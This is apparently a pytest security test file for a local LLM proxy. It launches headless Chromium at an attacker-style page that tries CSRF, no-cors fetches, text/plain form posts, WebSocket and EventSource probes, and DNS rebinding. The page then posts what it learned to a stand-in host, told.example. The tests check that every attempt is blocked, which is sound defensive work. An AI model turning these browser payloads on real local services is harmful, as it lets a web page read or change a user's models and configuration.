"""A real browser with pages of somebody else, who wants the user's models (T1 to T4)."""

from __future__ import annotations

import os
import queue
import re
import shutil
import signal
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest

from mux.wire import json
from tests.contract.processes import llm_mux
from tests.safety import raw

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser"))), None)
SECONDS = 60

pytestmark = [
    pytest.mark.skipif(CHROMIUM is None, reason="needs chromium: apt-get install chromium"),
    pytest.mark.skipif(os.name != "posix", reason="takes 127.0.0.2 for another machine"),
]

BODY = '{"model": "demo", "messages": [{"role": "user", "content": "Hello"}]}'

ATTACKS = {
    "read the models": "await (await fetch(url + '/v1/models')).text()",
    "read the configuration": "await (await fetch(url + '/v1/management/config')).text()",
    "read without CORS": "await (await fetch(url + '/v1/models', {mode: 'no-cors'})).text()",
    "ask in plain text": "await (await fetch(url + '/v1/chat/completions', "
    "{method: 'POST', body, headers: {'content-type': 'text/plain'}})).text()",
    "ask without CORS": "await (await fetch(url + '/v1/chat/completions', "
    "{method: 'POST', body, mode: 'no-cors'})).text()",
    "ask in JSON": "await (await fetch(url + '/v1/messages', "
    "{method: 'POST', body, headers: {'content-type': 'application/json'}})).text()",
    "change the configuration": "await (await fetch(url + '/v1/management/request-retry', "
    "{method: 'PUT', body: '{\"value\": 9}'})).text()",
    "delete": "await (await fetch(url + '/v1/responses/resp_1', {method: 'DELETE'})).text()",
    "send a beacon": "(navigator.sendBeacon(url + '/api/chat', body), await pause(500), '')",
    "send a form": """await new Promise(done => {
        const frame = document.body.appendChild(document.createElement('iframe'));
        frame.name = 'target';
        const form = document.body.appendChild(document.createElement('form'));
        form.method = 'POST'; form.action = url + '/api/chat'; form.enctype = 'text/plain';
        form.target = 'target';
        const field = form.appendChild(document.createElement('input'));
        field.name = body.slice(0, -1) + ', "x": "'; field.value = '"}';
        form.submit();
        setTimeout(() => {
            try { done(frame.contentDocument.body.innerText) } catch (error) { done('') }
        }, 1000)})""",
    "show it in a frame": """await new Promise(done => {
        const frame = document.body.appendChild(document.createElement('iframe'));
        frame.src = url + '/v1/models';
        setTimeout(() => {
            try { done(frame.contentDocument.body.innerText) } catch (error) { done('') }
        }, 1000)})""",
    "load it as a script": """await new Promise(done => {
        const script = document.body.appendChild(document.createElement('script'));
        script.onload = () => done('"object": loaded'); script.onerror = () => done('');
        script.src = url + '/v1/models'})""",
    "open a socket": """await new Promise(done => {
        const socket = new WebSocket(url.replace('http', 'ws') + '/v1/responses');
        socket.onopen = () => done('"object": open'); socket.onerror = () => done('')})""",
    "open an event source": """await new Promise(done => {
        const source = new EventSource(url + '/v1/models');
        source.onopen = () => done('"object": open');
        source.onerror = () => { source.close(); done('') }})""",
}
"""What the page tries, each an expression for what it got to know."""

PAGE = """<!doctype html><body><script>
const url = %s, body = %s, known = {};
const pause = time => new Promise(done => setTimeout(done, time));
(async () => {
%s
const told = 'http://told.example:' + location.port + '/known';
await fetch(told, {method: 'POST', mode: 'no-cors', body: JSON.stringify(known)});
})()
</script></body>"""


def page(url: str) -> bytes:
    tries = [
        f"try {{ known[{json.text(name)}] = {attack} }}"
        f" catch (error) {{ known[{json.text(name)}] = '' }}"
        for name, attack in ATTACKS.items()
    ]
    return (PAGE % (url, json.text(BODY), "\n".join(tries))).encode()


class Elsewhere:
    """The attacker's machine, 127.0.0.2: it serves a page, and is ours from then on.

    That is what a name that is bound again looks like to us: the page's own requests, which it may
    read, with its name as Host.
    """

    def __init__(self, port: int, content: bytes) -> None:
        self._ours = ("127.0.0.1", port)
        self._page = (
            b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\n"
            b"content-length: %d\r\n\r\n" % len(content) + content
        )
        self._listener = socket.create_server(("127.0.0.2", port))
        self.known: queue.Queue[bytes] = queue.Queue()
        """what pages came to know"""

    def serve(self) -> None:
        with suppress(OSError):
            while True:
                client, _ = self._listener.accept()
                threading.Thread(target=self._one, args=(client,), daemon=True).start()

    def close(self) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()

    def _one(self, client: socket.socket) -> None:
        with client, suppress(OSError):
            asked = client.recv(65536)
            if asked.startswith(b"GET /page "):
                client.sendall(self._page)
                return
            if asked.startswith(b"POST /known "):
                size = int(re.search(rb"(?i)content-length: (\d+)", asked)[1])  # type: ignore[index]
                while len(body := asked.partition(b"\r\n\r\n")[2]) < size:
                    asked += client.recv(65536)
                self.known.put(body)
                return
            with socket.create_connection(self._ours) as ours:
                ours.sendall(asked)
                back = threading.Thread(target=_copy, args=(ours, client), daemon=True)
                back.start()
                _copy(client, ours)
                back.join(1)


def _copy(source: socket.socket, sink: socket.socket) -> None:
    with suppress(OSError):
        while data := source.recv(65536):
            sink.sendall(data)


@contextmanager
def elsewhere(port: int, content: bytes) -> Iterator[Elsewhere]:
    machine = Elsewhere(port, content)
    thread = threading.Thread(target=machine.serve, daemon=True)
    thread.start()
    try:
        yield machine
    finally:
        machine.close()
        thread.join()


def visit(machine: Elsewhere, url: str, profile: Path) -> dict[str, str]:
    """What the page at `url` came to know. Every name is the attacker's machine."""
    browser = subprocess.Popen(
        [
            str(CHROMIUM), "--headless=new", "--no-sandbox", "--disable-gpu",
            "--disable-dev-shm-usage", "--no-first-run", "--no-proxy-server",
            "--disable-background-networking", f"--user-data-dir={profile}",
            "--host-resolver-rules=MAP *.example 127.0.0.2", url,
        ],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
    )  # fmt: skip
    try:
        told = json.loads(machine.known.get(timeout=SECONDS))
    finally:
        os.killpg(browser.pid, signal.SIGKILL)
        browser.wait()
    assert isinstance(told, dict)
    return {name: str(text) for name, text in told.items()}


def statuses(log: Path) -> list[tuple[str, int]]:
    """What was asked for, and what became of it."""
    lines = re.findall(r"mux\.access (\S+ \S+) .*? -> \S+ \S+ (\d+) ", log.read_text())
    return [(asked, int(status)) for asked, status in lines if asked != "GET /healthz"]


@pytest.mark.parametrize(
    ("name", "target"),
    [("evil", "http://127.0.0.1"), ("evil", "http://localhost"), ("bound", "")],
    ids=["another origin", "another origin, by name", "a rebound name"],
)
def test_T1_T2_T3_T4_pages_of_others_can_read_and_change_nothing(tmp_path, name, target):
    log = tmp_path / "log"
    with llm_mux("demo", log_to=log) as url:
        port = raw.address(url)[1]
        ours = json.text(f"{target}:{port}") if target else "location.origin"
        with elsewhere(port, page(ours)) as machine:
            told = visit(machine, f"http://{name}.example:{port}/page", tmp_path / "profile")
        assert set(told) == set(ATTACKS), "all of them were tried"
        for attack, text in told.items():
            assert '"object"' not in text, (attack, text)
            assert '"done"' not in text, (attack, text)
            assert "choices" not in text, (attack, text)
        seen = statuses(log)
        assert all(status in (403, 404, 405) for _, status in seen), seen
        assert any(asked.startswith("POST") for asked, _ in seen), "they did reach us"
        answer = raw.parsed(raw.exchange(url, raw.head("GET", "/v1/models", "connection: close")))
        assert answer.status == 200


def test_the_page_would_know_if_it_could(tmp_path):
    """The same page let in by the configuration: so it is not the page that fails."""
    log = tmp_path / "log"
    free = socket.create_server(("127.0.0.1", 0))
    port = free.getsockname()[1]
    free.close()
    config = (
        f"allowed-origins: ['http://evil.example:{port}']\nproviders: [{{type: demo}}]\n"
        "allowed-hosts: [evil.example]"
    )
    with llm_mux("serve", config=config, log_to=log) as url:
        ours = raw.address(url)[1]
        with elsewhere(port, page(json.text(f"http://127.0.0.1:{ours}"))) as machine:
            told = visit(machine, f"http://evil.example:{port}/page", tmp_path / "profile")
    assert '"object"' in told["read the models"]
    assert "choices" in told["ask in plain text"]
